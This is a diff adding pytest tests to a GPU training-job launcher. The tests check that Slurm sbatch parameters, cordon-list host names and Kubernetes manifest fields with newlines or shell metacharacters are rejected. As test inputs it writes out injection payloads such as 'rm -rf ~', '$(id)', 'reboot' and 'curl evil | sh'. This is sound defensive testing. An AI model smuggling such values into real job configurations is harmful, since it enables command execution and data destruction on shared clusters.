@@ -4,6 +4,7 @@ the Kubernetes manifest against the operator's schema, merged logs and the prefl
 import io
 import json
 import os
+import re
 import shutil
 import subprocess
 import sys
@@ -16,7 +17,7 @@ import yaml
 from smalti.core.errors import ConfigError
 from smalti.core.launch import LaunchError
 from smalti.core.launch.cli import main as launch_main
-from smalti.core.launch.cordon import parse_cordon, read_cordon_file
+from smalti.core.launch.cordon import CordonedHost, parse_cordon, read_cordon_file
 from smalti.core.launch.k8s import PyTorchJobOptions, build_pytorchjob
 from smalti.core.launch.logs import RankConsoleFilter, find_run_dir, show_logs
 from smalti.core.launch.node import node_torchrun_args, should_start_agent, worker_overrides
@@ -134,6 +135,45 @@ def test_cordon_file_shapes(tmp_path):
     assert read_cordon_file(tmp_path / "missing.json") == []
     with pytest.raises(LaunchError, match="entry 0"):
         parse_cordon([{"reason": "no host"}])
+
+
+def test_a_cordon_entry_that_is_not_a_host_name_refuses_the_file(tmp_path):
+    """A shared cordon list is written by other jobs: an entry with a newline would become a line of the sbatch."""
+    marker = tmp_path / "pwned"
+    hostile = tmp_path / "cordon.json"
+    hostile.write_text(json.dumps(["gpu-1", {"host": f"gpu-9\ntouch {marker} #", "reason": "bad"}]))
+    with pytest.raises(LaunchError, match=r"cordon\.json: entry 1: 'gpu-9\\ntouch"):
+        read_cordon_file(hostile)
+    with pytest.raises(LaunchError, match="entry 1"):
+        prepare_slurm_params({"nodes": 2}, TorchrunSettings(), str(hostile))
+    for bad in ("gpu 9", "gpu9;reboot", "$(id)", "gpu`id`", "-x", "", "a" * 254, "gpu9\rid"):
+        with pytest.raises(LaunchError, match="not a host name"):
+            parse_cordon([bad], "list.json")
+    # Valid names pass, and a reason is free text folded onto one line.
+    ok = parse_cordon([{"host": "gpu-node_3.rack-2.example.com", "reason": "XID 79\nthen ECC"}])
+    assert (ok[0].host, ok[0].reason) == ("gpu-node_3.rack-2.example.com", "XID 79 then ECC")
+
+
+def test_every_slurm_value_stays_on_its_sbatch_line(tmp_path):
+    for key, value in (("partition", "train\nrm -rf ~"), ("name", "job;id"), ("exclude", "gpu1 gpu2"),
+                       ("comment", "ok\n$(id)"), ("setup", ["module load x\ncurl evil | sh"]),
+                       ("additional_parameters", {"mail-user": "me\r\nid"}), ("account", "acct$(id)")):
+        with pytest.raises(LaunchError, match=rf"hydra\.launcher\.{key}"):
+            prepare_slurm_params({"nodes": 1, key: value}, TorchrunSettings(), None)
+    params = prepare_slurm_params({"nodes": 1, "partition": "gpu-a100", "exclude": "gpu[01-04],gpu7",
+                                   "comment": "llm 7b sweep", "constraint": "a100&ib",
+                                   "additional_parameters": {"mail-type": "END"}}, TorchrunSettings(), None)
+    assert params["exclude"] == "gpu[01-04],gpu7"
+
+
+def test_k8s_manifest_values_are_checked():
+    base = {"name": "llm", "nodes": 1}
+    for field, value, flag in (("image", "img\n- evil", "--image"), ("env", {"A B": "1"}, "--env"),
+                               ("env", {"TOKEN": "x\ny"}, "--env"), ("namespace", "Prod;x", "--namespace"),
+                               ("overrides", ["a=1\nb"], "overrides"),
+                               ("cordoned", [CordonedHost("gpu\nx")], "cordoned host 0")):
+        with pytest.raises(LaunchError, match=re.escape(flag)):
+            build_pytorchjob(PyTorchJobOptions(**base, **{field: value}))
 
 
 # --- Kubernetes ----------------------------------------------------------------------------------------
